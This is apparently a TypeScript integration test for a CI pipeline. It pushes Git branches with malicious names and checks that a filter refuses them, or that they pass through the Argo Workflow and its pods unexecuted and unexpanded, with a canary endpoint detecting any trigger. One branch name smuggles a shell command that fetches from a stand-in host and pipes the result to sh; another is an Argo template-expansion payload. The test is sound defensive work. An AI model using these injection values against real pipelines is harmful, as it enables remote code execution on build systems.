import { environmentName } from '../../../src/pipeline';
import { Canary } from '../canary';
import { repositories } from '../pipeline';
import { pushEvent } from '../push-event';
import { type FinishedRun, mustSucceed, output } from '../run';
import type { Test } from '../test';
import type { Part } from './part';
import { nothingNew } from './refuse';

/** Branches that Git accepts: one that a shell would run, one that Argo would expand. */
const branches = ['x";curl${IFS}evil|sh;#', '{{=workflow.parameters.repo}}'];

/** Branch names that are programs: refused where names are filtered, and mere text where they are not. */
export const injection: Part = {
  name: 'injection',
  run: async (test) => {
    const { report, runs, canary, forge } = test;
    await report.show('injection', 'the trap is seen when it is stepped into', async () => {
      const before = await canary.requests();
      await forge.ask(canary.url);
      if ((await canary.requests()) <= before) throw new Error('a request to it is not in its log');
    });
    const requests = await canary.requests();
    const before = await runs.names();

    await report.show('injection', 'with the filter on, no Workflow starts', async () => {
      await pushBranches(test, repositories.filtered);
      await nothingNew(test, before, 10);
    });

    const commits = await pushBranches(test, repositories.open);
    const finished = await report.show('injection', 'with the filter off, the runs succeed', async () => {
      const started = await Promise.all(commits.map((commit) => runs.started(commit)));
      const ended = await Promise.all(started.map((workflow) => runs.finished(workflow)));
      ended.forEach(mustSucceed);
      return ended;
    });
    for (const [index, branch] of branches.entries()) {
      const run = finished[index] as FinishedRun;
      await report.show('injection', `${branch} is carried as it is`, async () => isCarried(branch, run));
      await report.show('injection', `${branch} is nowhere executed or expanded`, async () => isInert(branch, run));
    }
    await report.show('injection', 'nobody stepped into the trap', async () => {
      const more = (await canary.requests()) - requests;
      if (more > 0) throw new Error(`${more} requests reached it`);
    });
  },
};

/** Pushes a commit to each of the branches of a repository, posts the events, and returns the commits. */
async function pushBranches(test: Test, name: string): Promise<string[]> {
  const repository = await test.repository(name);
  const commits: string[] = [];
  for (const branch of branches) {
    const after = await repository.commit(`A branch with a bad name: ${branch}`);
    await repository.push(branch);
    const body = pushEvent({ repository: name, ref: `refs/heads/${branch}`, after });
    const { status, text } = await test.webhook.deliver(body);
    if (status !== 200) throw new Error(`the EventSource answers ${status} ${text}`);
    commits.push(after);
  }
  return commits;
}

/** The branch reached the step that names the environment, and every character of it counted. */
function isCarried(branch: string, { workflow }: FinishedRun): void {
  const encoded = Buffer.from(`refs/heads/${branch}`).toString('base64');
  const values = workflow.spec.arguments?.parameters?.map(({ value }) => value) ?? [];
  if (!values.includes(encoded))
    throw new Error(`no argument of the Workflow is the encoded ref: ${values.join(', ')}`);
  const expected = environmentName(repositories.open, branch);
  const name = output(workflow, 'environment');
  if (name !== expected) throw new Error(`the environment is ${name}, expected ${expected}`);
}

/** The branch is nowhere in the clear, and nothing is there that running or expanding it would have made. */
function isInert(branch: string, { workflow, pods }: FinishedRun): void {
  const logged = pods.filter(({ log }) => log !== '' && !log.startsWith('(no log'));
  if (logged.length < 5) throw new Error(`only ${logged.length} of ${pods.length} pods' logs could be read`);
  const places = [
    { place: 'the Workflow', text: plain(workflow) },
    ...pods.map(({ name, pod }) => ({ place: `the pod ${name}`, text: plain(pod) })),
    ...pods.map(({ name, log }) => ({ place: `the log of ${name}`, text: log })),
  ];
  const values = workflow.spec.arguments?.parameters?.map(({ value }) => String(value)) ?? [];
  const traces = [
    branch,
    Canary.mark,
    'curl: ', // what curl says when it fails
    'evil: not found',
    'failed to evaluate',
    // The environments that there would be, had the branch become another value of the Workflow.
    ...[...values, workflow.metadata.name ?? '', repositories.open].map((value) =>
      environmentName(repositories.open, value),
    ),
  ];
  for (const { place, text } of places) {
    const trace = traces.find((each) => text.includes(each));
    if (trace !== undefined) throw new Error(`${place} holds ${trace}`);
  }
}

/** An object as text in which quotes and the like are not escaped. */
function plain(object: object): string {
  const texts: string[] = [];
  JSON.stringify(object, (_key, value) => {
    if (typeof value === 'string') texts.push(value);
    return value;
  });
  return texts.join('\n');
}
